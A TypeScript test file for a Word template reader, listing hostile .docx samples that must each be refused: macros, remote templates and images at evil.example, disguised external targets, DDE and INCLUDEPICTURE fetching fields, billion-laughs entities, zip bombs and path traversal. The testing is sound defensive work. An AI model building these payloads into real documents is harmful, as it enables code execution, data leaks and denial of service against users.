import { readTemplateFile } from '@renderer/data/foreign/read-template-file'
import { templateRefusalSentences, type TemplateRefusal } from '@shared/documents/own-template/template-refusal'
import { xlsxParts, zip } from '@tests/tools/zip'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { relation, templateParts } from './template-parts'

const ofType = (name: string) => `application/vnd.${name}+xml`
const field = (...runs: string[]) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${runs.map((run) => `<w:r><w:instrText>${run}</w:instrText></w:r>`).join('')}</w:p>`
const part = (name: string, content: string | Buffer = 'x') => ({ parts: [{ name, content }] })
const utf16 = Buffer.from('\ufeff<?xml version="1.0" encoding="UTF-16"?><x/>', 'utf16le')
const bytes = (content: Buffer) => new Uint8Array(content)
const plain = zip(templateParts())

/** Of different names, so that they do not pack like a bomb. */
const nested = (levels: number) => Array.from({ length: levels }, (_, nth) => `<w:p w:x${nth * 7919}="">`).join('')

/** A zip whose directory says that it has so many parts. */
function saysParts(file: Uint8Array<ArrayBuffer>, count: number): Uint8Array<ArrayBuffer> {
  const lying = file.slice()
  new DataView(lying.buffer).setUint16(lying.length - 12, count, true)
  return lying
}

const hostile: [string, () => Uint8Array<ArrayBuffer>, TemplateRefusal][] = [
  ['a macro project', () => zip(templateParts(part('word/vbaProject.bin'))), 'macros'],
  [
    'the type of a document with macros',
    () => zip(templateParts({ mainType: ofType('ms-word.document.macroEnabled.main') })),
    'macros',
  ],
  ['macro data', () => zip(templateParts(part('word/vbaData.xml', '<x/>'))), 'macros'],
  [
    'a template from the web',
    () =>
      zip(
        templateParts({ links: relation('attachedTemplate', 'http://evil.example/a.dotm', 'TargetMode="External"') }),
      ),
    'attachedTemplate',
  ],
  [
    'a picture from the web',
    () => zip(templateParts({ links: relation('image', 'http://evil.example/a.png', 'TargetMode="External"') })),
    'external',
  ],
  [
    'an external target in disguise',
    () => zip(templateParts({ links: relation('image', 'file://evil/a.png', "TargetMode='&#69;xtern&#x61;l'") })),
    'external',
  ],
  [
    'an external target in longer disguise',
    () => zip(templateParts({ links: relation('image', 'file://evil/a.png', 'TargetMode="&#00000069;xternal"') })),
    'external',
  ],
  [
    'a target that seems to end before it says that it is external',
    () => zip(templateParts({ links: relation('image', 'https://evil.example/a.png?>', 'TargetMode="External"') })),
    'external',
  ],
  [
    'a header under another name',
    () =>
      zip([
        ...templateParts(part('word/header1.bin', `<w:hdr>${field('INCLUDEPICTURE "http://x"')}</w:hdr>`)).map((one) =>
          one.name === '[Content_Types].xml' && typeof one.content === 'string'
            ? {
                ...one,
                content: one.content.replace(
                  '<Override',
                  `<Override PartName="/word/header1.bin" ContentType="${ofType('openxmlformats-officedocument.wordprocessingml.header')}"/><Override`,
                ),
              }
            : one,
        ),
      ]),
    'strange',
  ],
  [
    'web addresses that can be pressed',
    () =>
      zip(
        templateParts({
          links: [
            relation('hyperlink', 'https://forbundet.example/', 'TargetMode="External"'),
            relation('hyperlink', 'mailto:info@forbundet.example', 'TargetMode="External"'),
          ].join(''),
        }),
      ),
    'link',
  ],
  [
    'a web address beside a picture from the web',
    () =>
      zip(
        templateParts({
          links: [
            relation('hyperlink', 'https://forbundet.example/', 'TargetMode="External"'),
            relation('image', 'https://forbundet.example/a.png', 'TargetMode="External"'),
          ].join(''),
        }),
      ),
    'external',
  ],
  ['an embedded object', () => zip(templateParts(part('word/embeddings/oleObject1.bin'))), 'embedded'],
  ['an ActiveX control', () => zip(templateParts(part('word/activeX/activeX1.xml', '<x/>'))), 'embedded'],
  ['an object in the text', () => zip(templateParts({ body: '<w:p><w:r><w:object/></w:r></w:p>' })), 'embedded'],
  ['another document in it', () => zip(templateParts({ links: relation('aFChunk', 'chunk.html') })), 'importedText'],
  [
    'a DDE field split over runs',
    () => zip(templateParts({ body: field('DD', 'EAUTO c:\\\\x.exe') })),
    'fetchingField',
  ],
  [
    'a field that fetches a picture',
    () => zip(templateParts({ body: field('INCLUDEPICTURE "http://x"') })),
    'fetchingField',
  ],
  [
    'a field in single quotes that fetches a picture',
    () => zip(templateParts({ body: `<w:p><w:fldSimple w:instr='INCLUDEPICTURE "http://x"'/></w:p>` })),
    'fetchingField',
  ],
  [
    'a fetching field in a section of plain characters',
    () => zip(templateParts({ body: field('<![CDATA[INCLUDETEXT "//evil/a.docx"]]>') })),
    'fetchingField',
  ],
  [
    'a fetching field outside the folder of the text',
    () => zip(templateParts(part('other/header1.xml', `<w:hdr>${field('DDEAUTO x')}</w:hdr>`))),
    'fetchingField',
  ],
  ['a field that leads to the web', () => zip(templateParts({ body: field('HYPER', 'LINK "https://x"') })), 'link'],
  [
    'a field that leads to a place in it and to the web',
    () => zip(templateParts({ body: field('HYPERLINK \\l "a" "https://x"') })),
    'link',
  ],
  [
    'a billion laughs',
    () => zip(templateParts({ head: '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]>' })),
    'entities',
  ],
  ['text in UTF-16', () => zip(templateParts(part('word/settings.xml', utf16))), 'otherEncoding'],
  ['a bomb', () => zip(templateParts(part('word/media/a.bin', Buffer.alloc(60 * 1024 * 1024)))), 'bomb'],
  [
    'sizes that lie',
    () => zip(templateParts({ parts: [{ name: 'word/a.xml', content: '<x>12345</x>', toldSize: 3 }] })),
    'liesOfSize',
  ],
  ['60 000 parts', () => saysParts(plain, 60_000), 'tooManyParts'],
  [
    '2 001 parts',
    () => zip(templateParts({ parts: Array.from({ length: 2001 }, (_, nth) => ({ name: `${nth}`, content: '' })) })),
    'tooManyParts',
  ],
  ['a part that climbs out', () => zip(templateParts(part('../../evil'))), 'strange'],
  ['the same part twice', () => zip(templateParts(part('word/document.xml', '<x/>'))), 'strange'],
  [
    'a locked part',
    () => zip(templateParts({ parts: [{ name: 'word/a.xml', content: '<x/>', isEncrypted: true }] })),
    'encrypted',
  ],
  ['a password', () => bytes(Buffer.from('d0cf11e0a1b11ae1'.padEnd(1024, '0'), 'hex')), 'oldOrLocked'],
  ['nothing but text', () => bytes(Buffer.from('Det här är ingen Word-fil, bara text.')), 'notWord'],
  ['no bytes', () => new Uint8Array(), 'notWord'],
  ['another zip', () => zip([{ name: 'a.txt', content: 'a'.repeat(99) }]), 'notWord'],
  ['an Excel file', () => zip(xlsxParts('')), 'anotherKind'],
  [
    'the type of a .dotx',
    () => zip(templateParts({ mainType: ofType('openxmlformats-officedocument.wordprocessingml.template.main') })),
    'wordTemplate',
  ],
  [
    'Strict Open XML',
    () => zip(templateParts({ body: '<w:p xmlns:s="http://purl.oclc.org/ooxml/wordprocessingml/main"/>' })),
    'strict',
  ],
  ['its end cut off', () => plain.slice(0, -30), 'damaged'],
  ['broken XML', () => zip(templateParts({ body: '<w:p><w:r></w:p>' })), 'damaged'],
  ['4 000 paragraphs in each other', () => zip(templateParts({ body: nested(4000) })), 'damaged'],
  ['2 MB', () => new Uint8Array(2 * 1024 * 1024), 'tooLarge'],
]

describe('a template', () => {
  it('is read with its placeholders, those that are split over runs too', async () => {
    expect(await readTemplateFile(plain)).toMatchObject({ ok: true, placeholders: ['titel', 'innehall'] })
  })

  it('may lead to places in itself, as a table of contents does', async () => {
    const file = zip(templateParts({ body: field('HYPERLINK \\l "_Toc1" \\h') }))
    expect(await readTemplateFile(file)).toMatchObject({ ok: true })
  })

  it.each(hostile)('with %s is refused within a second, with its own reason', async (_, make, refusal) => {
    const file = make()
    const began = process.cpuUsage()
    const read = await readTemplateFile(file)
    expect(read).toEqual({ ok: false, refusal })
    // The computer's own work: what else it does meanwhile is not the file's doing.
    const { user, system } = process.cpuUsage(began)
    expect((user + system) / 1000).toBeLessThan(1000)
  })

  it('of 60 000 parts that are there is larger than any template', async () => {
    const many = zip(Array.from({ length: 60_000 }, (_, nth) => ({ name: `${nth}`, content: '' })))
    expect(await readTemplateFile(many)).toEqual({ ok: false, refusal: 'tooLarge' })
  })

  it('that is broken anywhere never makes the reader fail', async () => {
    await fc.assert(
      fc.asyncProperty(fc.nat(plain.length - 1), fc.integer({ min: 1, max: 255 }), async (place, change) => {
        const broken = plain.slice()
        broken[place]! ^= change
        const read = await readTemplateFile(broken)
        expect(read.ok || read.refusal in templateRefusalSentences).toBe(true)
      }),
      { numRuns: 60 },
    )
  })
})
